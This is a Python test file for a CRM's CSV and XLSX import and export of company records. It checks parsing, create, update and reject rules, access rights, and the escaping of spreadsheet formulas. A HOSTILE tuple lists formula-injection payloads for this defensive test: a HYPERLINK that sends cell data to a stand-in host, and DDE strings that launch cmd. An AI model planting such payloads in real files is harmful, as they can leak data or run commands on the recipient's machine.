"""Import of companies from CSV and export to CSV / XLSX, on both backends."""

from __future__ import annotations

import csv
import io
import time
from datetime import date

import pytest
from client_support import INN_A, INN_B, audit_count, company, inn10, make_team, row_counts
from openpyxl import load_workbook
from sqlalchemy import func, select

from qstui.db.models import AuditEntry, Company, Email, Phone, SearchWord
from qstui.domain.clients import ClientFilter, ImportAction
from qstui.domain.errors import AccessDenied, ValidationFailed
from qstui.domain.formulas import TRIGGERS
from qstui.services.clients import companies as C
from qstui.services.clients.export import export_clients
from qstui.services.clients.importing import import_clients, parse
from qstui.services.deals import create_deal
from qstui.services.deals.payments import add_payment


def companies(db) -> int:
    with db.reader() as s:
        return int(s.scalar(select(func.count()).select_from(Company)) or 0)


def test_parse_detects_encoding_separator_and_headers():
    text = "\ufeffName,INN,E-mail,Colour\nАльфа,7707083893,a@b.ru,red\n\n"
    parsed = parse(text.encode("utf-8"))
    assert (parsed.encoding, parsed.delimiter) == ("utf-8", ",")
    assert parsed.columns == ["name", "inn", "email"]
    assert parsed.ignored == ["Colour"]
    assert parsed.lines == [(2, {"name": "Альфа", "inn": "7707083893", "email": "a@b.ru"})]
    cp = 'Наименование;ИНН;Телефон\r\n"Бета; и Ко";7736207543;8 495 1234567\r\n'
    parsed = parse(cp.encode("cp1251"))
    assert (parsed.encoding, parsed.delimiter) == ("cp1251", ";")
    assert parsed.lines == [
        (2, {"name": "Бета; и Ко", "inn": "7736207543", "phone": "8 495 1234567"})
    ]
    with pytest.raises(ValidationFailed) as err:
        parse("ИНН;Город\n1;2\n".encode())
    assert "file" in err.value.errors


def test_import_creates_updates_rejects_and_is_idempotent(db):
    team = make_team(db)
    known = company(team.ivanov, "Альфа", inn=INN_A, city="Тула")
    named = company(team.ivanov, 'ООО "Бета"')
    theirs = company(team.sidorov, "Чужая", inn=INN_B)
    text = (
        "Наименование;ИНН;Город;Телефон;E-mail;Менеджер\n"
        f"Альфа новая;{INN_A};Тверь;8 495 111-22-33;;\n"  # 2: update by INN
        "Бета ООО;;;;beta@beta.ru;\n"  # 3: update by name, add e-mail
        "Гамма;;Омск;;;\n"  # 4: create
        f"Чужая копия;{INN_B};;;;\n"  # 5: INN of a company ivanov does not see
        "Дельта;;;;;petrova\n"  # 6: another manager: needs reassign
        "Гамма;;;;;\n"  # 7: the same company as line 4
        ";;;;;\n"  # empty: skipped
        "Эпсилон;123;;;;\n"  # 9: bad INN
    )
    data = text.encode("utf-8")
    before = row_counts(db)
    dry = import_clients(team.ivanov, data)
    assert row_counts(db) == before
    assert not dry.applied
    actions = {line.line_no: line.action for line in dry.lines}
    assert actions == {
        2: ImportAction.UPDATE,
        3: ImportAction.UPDATE,
        4: ImportAction.CREATE,
        5: ImportAction.REJECTED,
        6: ImportAction.REJECTED,
        7: ImportAction.REJECTED,
        9: ImportAction.REJECTED,
    }
    lines = {line.line_no: line for line in dry.lines}
    assert lines[2].company_id == known and set(lines[2].changes) == {"name", "city", "phone"}
    assert lines[3].company_id == named and lines[3].changes == ("email",)
    assert "Чужая" in lines[5].errors["inn"] and "Сидор Сидоров" in lines[5].errors["inn"]
    assert set(lines[6].errors) == {"manager"}
    assert "4" in lines[7].errors["line"]
    assert set(lines[9].errors) == {"inn"}

    done = import_clients(team.ivanov, data, apply=True)
    assert (done.created, done.updated, len(done.rejected)) == (1, 2, 4)
    card = C.get_card(team.ivanov, known)
    assert (card.name, card.city, [p.number for p in card.phones]) == (
        "Альфа новая",
        "Тверь",
        ["8 495 111-22-33"],
    )
    assert [e.address for e in C.get_card(team.ivanov, named).emails] == ["beta@beta.ru"]
    gamma = C.list_clients(team.ivanov, ClientFilter(text="гамма")).rows
    assert [(r.name, r.city, r.manager_id) for r in gamma] == [
        ("Гамма", "Омск", team.ivanov.user_id)
    ]
    assert C.count_clients(team.ivanov, ClientFilter(text="новая")) == 1
    assert C.get_card(team.sidorov, theirs).name == "Чужая"

    counts, audits = row_counts(db), audit_count(db)
    again = import_clients(team.ivanov, data, apply=True)
    assert (again.created, again.updated, again.unchanged) == (0, 0, 3)
    assert row_counts(db) == counts
    assert audit_count(db) == audits


def test_import_with_other_managers_needs_reassign_and_edit(db):
    team = make_team(db)
    data = "name,inn,manager\nОмега,7707083893,ivanov\nСигма,,sidorov\n".encode()
    report = import_clients(team.head, data, apply=True)
    assert report.created == 1
    assert {line.line_no: line.action for line in report.lines} == {
        2: ImportAction.CREATE,
        3: ImportAction.REJECTED,  # sidorov is not in the head's department
    }
    assert [r.name for r in C.list_clients(team.ivanov).rows] == ["Омега"]
    from qstui.services import rights as R
    from qstui.services.access.users import revoke
    from qstui.services.context import context_for

    revoke(team.system, "ivanov", R.EDIT)
    before = row_counts(db)
    with pytest.raises(AccessDenied):
        import_clients(context_for(db, "ivanov"), data, apply=True)
    assert row_counts(db) == before


@pytest.mark.parametrize("encoding", ["cp1251"])
def test_import_of_ten_thousand_lines(db, encoding):
    team = make_team(db)
    bad = {
        101: ("inn", lambda i: ["Ошибка ИНН", "7707083894", "", "", "", ""]),
        2002: ("name", lambda i: ["", inn10(i), "", "", "", ""]),
        4003: ("email", lambda i: [f"Клиент {i}", inn10(i), "", "", "почта@", ""]),
        6004: ("phone", lambda i: [f"Клиент {i}", inn10(i), "", "12-34", "", ""]),
        9005: ("manager", lambda i: [f"Клиент {i}", inn10(i), "", "", "", "nobody"]),
    }
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerow(["Наименование", "ИНН", "Город", "Телефон", "E-mail", "Менеджер"])
    for i in range(10_000):
        if i in bad:
            writer.writerow(bad[i][1](i))
            continue
        writer.writerow(
            [
                f'ООО "Клиент {i}"',
                inn10(i),
                ("Москва", "Тверь", "Тула")[i % 3],
                f"+7 (4{i % 90 + 10:02d}) {i:07d}"[:20],
                f"client{i}@example.ru",
                "ivanov" if i % 2 else "",
            ]
        )
    data = out.getvalue().encode(encoding)
    expected = {i + 2: field for i, (field, _make) in bad.items()}

    dry = import_clients(team.head, data)
    assert (dry.encoding, dry.delimiter) == ("cp1251", ";")
    assert {line.line_no: set(line.errors) for line in dry.rejected} == {
        n: {f} for n, f in expected.items()
    }
    assert dry.created == 9_995 and dry.updated == 0
    assert companies(db) == 0

    started = time.perf_counter()
    done = import_clients(team.head, data, apply=True)
    elapsed = time.perf_counter() - started
    print(f"\n{db.backend}: 10 000 lines imported in {elapsed:.1f} s")
    assert done.created == 9_995 and len(done.rejected) == 5
    assert companies(db) == 9_995
    with db.reader() as s:
        assert s.scalar(select(func.count()).select_from(Phone)) == 9_995
        assert s.scalar(select(func.count()).select_from(Email)) == 9_995
        assert s.scalar(select(func.count()).select_from(AuditEntry)) >= 9_995
        words = s.scalar(
            select(func.count(func.distinct(SearchWord.object_id))).where(
                SearchWord.object_kind == "company"
            )
        )
        assert words == 9_995
    assert C.count_clients(team.ivanov) == 4_997  # odd lines, but 101, 4003, 9005 are bad
    assert C.count_clients(team.head, ClientFilter(text="клиент 7777")) == 1
    assert C.count_clients(team.head, ClientFilter(text="client4242@example.ru")) == 1
    new_company = C.create_company  # ids continue after the reserved ones
    from qstui.domain.clients import CompanyInput

    extra = new_company(team.head, CompanyInput(name="После импорта"), force=True)
    with db.reader() as s:
        assert extra > s.scalar(select(func.max(Company.id)).where(Company.id != extra))

    again = import_clients(team.head, data, apply=True)
    assert again.created == 0 and again.updated == 0 and again.unchanged == 9_995
    assert companies(db) == 9_996


def test_export_csv_and_xlsx_read_back_and_need_the_export_right(db, tmp_path):
    team = make_team(db)
    a = company(team.ivanov, "Альфа", inn=INN_A, city="Тула", phone="8 495 111-22-33")
    company(team.petrova, "Бета", email="b@beta.ru")
    company(team.sidorov, "Чужая")
    target = tmp_path / "clients.csv"
    with pytest.raises(AccessDenied):
        export_clients(team.ivanov, target)  # managers may not export
    assert not target.exists()

    assert export_clients(team.head, target) == 2
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:4] == ["ID", "Name", "Full name", "INN"]
    assert [r[1] for r in rows[1:]] == ["Альфа", "Бета"]
    assert rows[1][3] == INN_A and rows[1][7] == "8 495 111-22-33" and rows[1][9] == "ivanov"
    assert rows[2][8] == "b@beta.ru"
    # the export reads back as an import that changes nothing
    report = import_clients(team.head, raw)
    assert report.unchanged == 2 and not report.rejected

    book = tmp_path / "clients.xlsx"
    assert export_clients(team.head, book, ClientFilter(text="альфа")) == 1
    sheet = load_workbook(book, read_only=True).active
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][1] == "Name"
    assert values[1][0] == a and values[1][1] == "Альфа" and values[1][6] == "Тула"
    with pytest.raises(ValidationFailed):
        export_clients(team.head, tmp_path / "clients.txt")


HOSTILE = (
    '=HYPERLINK("http://x/?d="&B3,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=1+2",  # quoted by somebody already: read back with its quote
    "#N/A",  # an error value to openpyxl, a name to us
)


def test_exported_text_never_becomes_a_formula_and_reads_back_the_same(db, tmp_path, clock_at):
    today = clock_at(date(2026, 11, 25)).date()
    team = make_team(db)
    for n, name in enumerate(HOSTILE):
        company(team.ivanov, name, full_name=f"{name} №{n}", city="=1+1", phone="+7 495 111-22-33")
    plain = company(team.ivanov, "Обычная", full_name="Обычная")
    advance = create_deal(team.ivanov, plain, "Аванс")
    add_payment(team.ivanov, advance, "actual", today, "100.00")  # a debt of −100.00

    target = tmp_path / "clients.csv"
    assert export_clients(team.head, target) == len(HOSTILE) + 1
    raw = target.read_bytes()
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))[1:]
    written = {r[1]: r for r in rows}
    for name in HOSTILE:
        quoted = written["'" + name] if name[0] in TRIGGERS or name[0] == "'" else written[name]
        assert quoted[6] == "'=1+1"  # the city
        assert quoted[7] == "+7 495 111-22-33"  # a phone stays readable: no formula in it
    for row in rows:
        assert not any(cell.startswith(("=", "@")) for cell in row), row
    assert written["Обычная"][12] == "-100.00"  # a number stays a number
    # the import takes the quotes off: the same names, nothing to change
    assert [line["name"] for _n, line in parse(raw).lines] == [*HOSTILE, "Обычная"]
    report = import_clients(team.head, raw)
    assert report.unchanged == len(HOSTILE) + 1 and not report.rejected

    book = tmp_path / "clients.xlsx"
    assert export_clients(team.head, book) == len(HOSTILE) + 1
    sheet = load_workbook(book).active
    cells = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
    assert set(cells) == {*HOSTILE, "Обычная"}  # exactly the names, no quote added
    for name in HOSTILE:
        row = cells[name]
        assert [(c.value, c.data_type) for c in (row[1], row[2], row[6])] == [
            (name, "s"),
            (f"{name} №{HOSTILE.index(name)}", "s"),
            ("=1+1", "s"),
        ]
    debt = cells["Обычная"][12]
    assert (debt.value, debt.data_type) == (-100, "n")
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
